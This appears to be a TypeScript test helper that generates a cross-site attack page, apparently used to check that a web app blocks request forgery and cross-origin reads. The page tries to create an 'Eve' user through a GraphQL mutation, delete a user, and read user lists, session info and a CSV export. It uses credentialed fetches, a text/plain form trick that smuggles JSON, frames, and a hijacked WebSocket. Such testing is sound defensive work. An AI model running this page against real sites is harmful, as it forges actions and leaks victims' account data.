/**
 * A page that tries to read from and to change the program at this address with the session that its visitor has there.
 * What each try could read stands in `#results`; the title tells that all are over.
 */
export const crossSitePage = (target: string): string => `<!doctype html><title>trying</title><pre id="results"></pre>
<script type="module">
const target = ${JSON.stringify(target)};
const change = 'mutation { createUser(input: { fullName: "Eve", email: "eve@evil.example" }) { user { id } } }';
const read = '{ viewer { id email } }';
const eve = JSON.stringify({ fullName: 'Eve', email: 'eve@evil.example' });
const operation = JSON.stringify({ query: change });
const multipart = new FormData();
multipart.set('operations', operation);
const results = {};
const get = (path) => () => fetch(target + path, { credentials: 'include' });
const post = (path, body, more = {}) => () =>
  fetch(target + path, { method: 'POST', credentials: 'include', body, ...more });
const json = { 'content-type': 'application/json' };
const tries = {
  'fetch, text/plain': post('/graphql', operation),
  'fetch, JSON': post('/graphql', operation, { headers: json }),
  'fetch, JSON with the header of the client': post('/graphql', operation, {
    headers: { ...json, 'x-requested-by': 'atrium' },
  }),
  'fetch, no-cors': post('/graphql', operation, { mode: 'no-cors' }),
  'fetch, form': post('/graphql', new URLSearchParams({ query: change })),
  'fetch, multipart': post('/graphql', multipart),
  'GET query': get('/graphql?query=' + encodeURIComponent(read)),
  'GET mutation': get('/graphql?query=' + encodeURIComponent(change)),
  'GET of a path': get('/api/apps/users'),
  'GET of who is signed in': get('/api/auth/me'),
  'GET of a file': get('/export/users.csv'),
  'POST of a path, text/plain': post('/api/apps/users', eve),
  'DELETE of a path': () => fetch(target + '/api/apps/users/5', { method: 'DELETE', credentials: 'include' }),
  'a page of the program': get('/'),
};
for (const [name, attempt] of Object.entries(tries)) {
  results[name] = await attempt().then(
    async (answer) => (await answer.text().catch(() => '')) || 'nothing',
    () => 'nothing',
  );
}
const loads = (element, more) => new Promise((done) => {
  element.onload = () => done('loaded'); element.onerror = () => done('nothing');
  Object.assign(element, more); document.body.append(element); setTimeout(() => done('nothing'), 3000);
});
results['image'] = await loads(document.createElement('img'), { src: target + '/graphql?query=' + encodeURIComponent(change) });
results['script'] = await loads(document.createElement('script'), { src: target + '/api/apps/users' });
results['style'] = await loads(document.createElement('link'), { rel: 'stylesheet', href: target + '/api/apps/users' });
/** What a frame shows a while after it was sent somewhere. */
const seenIn = async (frame) => {
  await new Promise((done) => setTimeout(done, 800));
  try { return frame.contentDocument?.body?.innerText || 'nothing'; } catch { return 'nothing'; }
};
const added = (name, more, parent = document.body) => {
  const element = Object.assign(document.createElement(name), more);
  parent.append(element);
  return element;
};
const forms = [
  ['application/x-www-form-urlencoded', '/graphql'],
  ['multipart/form-data', '/graphql'],
  ['text/plain', '/graphql'],
  ['text/plain', '/api/apps/users'],
];
// As plain text a form becomes JSON: its name and its value with the sign of equality between them.
const asText = { name: '{"query":' + JSON.stringify(change) + ',"a":"', value: '"}' };
for (const [enctype, path] of forms) {
  const frame = added('iframe', { name: 'to' + Math.random() });
  const form = added('form', { method: 'post', action: target + path, enctype, target: frame.name });
  added('input', enctype === 'text/plain' ? asText : { name: 'query', value: change }, form);
  form.submit();
  results['form ' + enctype + ' to ' + path] = await seenIn(frame);
}
for (const path of ['/', '/login', '/apps/user/list'])
  results['frame ' + path] = await seenIn(added('iframe', { src: target + path }));
results['socket'] = await new Promise((done) => {
  const socket = new WebSocket(target.replace('http', 'ws') + '/graphql', 'graphql-transport-ws');
  socket.onopen = () => { socket.send(JSON.stringify({ type: 'connection_init' })); };
  socket.onmessage = ({ data }) => done(String(data));
  socket.onerror = socket.onclose = () => done('nothing');
  setTimeout(() => done('nothing'), 6000);
});
results['opened window'] = await (async () => {
  try {
    const other = window.open(target + '/apps/user/list');
    await new Promise((done) => setTimeout(done, 1000));
    return other?.document?.body?.innerText || 'nothing';
  } catch {
    return 'nothing';
  }
})();
document.querySelector('#results').textContent = JSON.stringify(results);
document.title = 'done';
</script>`;
